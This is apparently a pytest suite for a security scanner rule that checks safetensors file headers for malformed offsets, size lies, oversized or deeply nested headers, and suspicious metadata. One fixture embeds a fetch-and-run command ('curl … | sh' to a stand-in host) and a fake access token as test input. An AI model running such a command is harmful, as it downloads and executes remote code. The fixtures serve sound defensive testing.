"""safetensors: the header covers the file exactly, or there is something to tell."""

import json

import pytest
from format_items import hostile, item_of, results, rules, survives

from mithridate.core.results import Severity


def _file(header, body=b"\0" * 24, pad=0, length=None):
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    text += b" " * pad
    return (len(text) if length is None else length).to_bytes(8, "little") + text + body


def _tensor(dtype, shape, start, stop):
    return {"dtype": dtype, "shape": shape, "data_offsets": [start, stop]}


A, B = _tensor("F32", [2, 2], 0, 16), _tensor("F16", [4], 16, 24)
GOOD = _file({"a": A, "b": B, "__metadata__": {"format": "pt"}}, pad=5)

CASES = {
    "two tensors": (GOOD, set()),
    "none": (_file({}, b""), set()),
    "empty tensor": (_file({"a": A, "e": _tensor("F32", [0], 16, 16), "b": B}), set()),
    "scalar": (_file({"a": _tensor("I64", [], 0, 8)}, b"\0" * 8), set()),
    "four bits": (_file({"a": _tensor("F4", [16], 0, 8)}, b"\0" * 8), set()),
    "trailing": (_file({"a": A, "b": B}, b"\0" * 60), {"TRAILING"}),
    "hole": (_file({"a": A, "b": _tensor("F16", [4], 20, 28)}, b"\0" * 28), {"HOLE"}),
    "overlap": (_file({"a": A, "b": _tensor("F16", [4], 8, 16)}, b"\0" * 16), {"OVERLAP"}),
    "size": (_file({"a": _tensor("F32", [2, 3], 0, 16), "b": B}), {"SIZE_LIE"}),
    "huge shape": (_file({"a": _tensor("F32", [2**62, 2**62], 0, 16), "b": B}), {"SIZE_LIE"}),
    "twice": (
        _file(b'{"a":' + json.dumps(A).encode() + b',"a":' + json.dumps(A).encode() + b"}", b"\0" * 16),
        {"DUPLICATE_KEY"},
    ),
    "metadata": (
        _file({"a": A, "b": B, "__metadata__": {"x": "curl http://evil.example | sh"}}),
        {"METADATA_URL", "METADATA_COMMAND"},
    ),
    "token": (_file({"a": A, "b": B, "__metadata__": {"x": "hf_" + "a1B2" * 9}}), {"METADATA_SECRET"}),
    "hidden": (_file({"a": A, "b": B, "__metadata__": {"x": "a\u200bb"}}), {"METADATA_INVISIBLE"}),
    "new type": (_file({"a": _tensor("F2", [4], 0, 1)}, b"\0"), {"skip"}),
    "cut": (GOOD[:-1], {"skip"}),
    "long header": (_file({"a": A}, length=1 << 60), {"skip"}),
    "bomb": ((50 << 20).to_bytes(8, "little") + b"{" + b" " * (50 << 20), {"skip"}),
    "list": (_file(b"[]"), {"skip"}),
    "negative": (_file({"a": _tensor("F32", [-2, -2], 0, 16)}), {"skip"}),
    "text offset": (_file({"a": _tensor("F32", [2], "0", 16)}), {"skip"}),
    "backwards": (_file({"a": _tensor("F32", [2], 16, 0)}), {"skip", "SIZE_LIE"}),
    "no utf-8": (_file(b'{"\xff": 1}'), {"skip"}),
    "deep": (_file(b'{"a":' * 50_000), {"skip"}),
}


@pytest.mark.parametrize("name", CASES)
def test_header(name):
    content, expected = CASES[name]
    assert rules("safetensors-header", item_of(content, "safetensors")) == expected


def test_texts_are_told_and_do_not_flag():
    for name in ("metadata", "token", "hidden"):
        item = item_of(CASES[name][0], "safetensors")
        assert rules("safetensors-header", item, Severity.SUSPICIOUS) == set()
    (token,) = results("safetensors-header", item_of(CASES["token"][0], "safetensors"))
    assert "a1B2a1B2" not in token.message  # a secret is not repeated


def test_a_file_of_the_library(tmp_path):
    numpy_api = pytest.importorskip("safetensors.numpy")
    import numpy as np

    tensors = {"w": np.ones((3, 5), np.float32), "b": np.zeros(7, np.int8), "s": np.array(1.0)}
    content = numpy_api.save(tensors, {"format": "np"})
    assert results("safetensors-header", item_of(content, "safetensors")) == []


def test_any_bytes():
    survives("safetensors-header", "safetensors", hostile(GOOD))
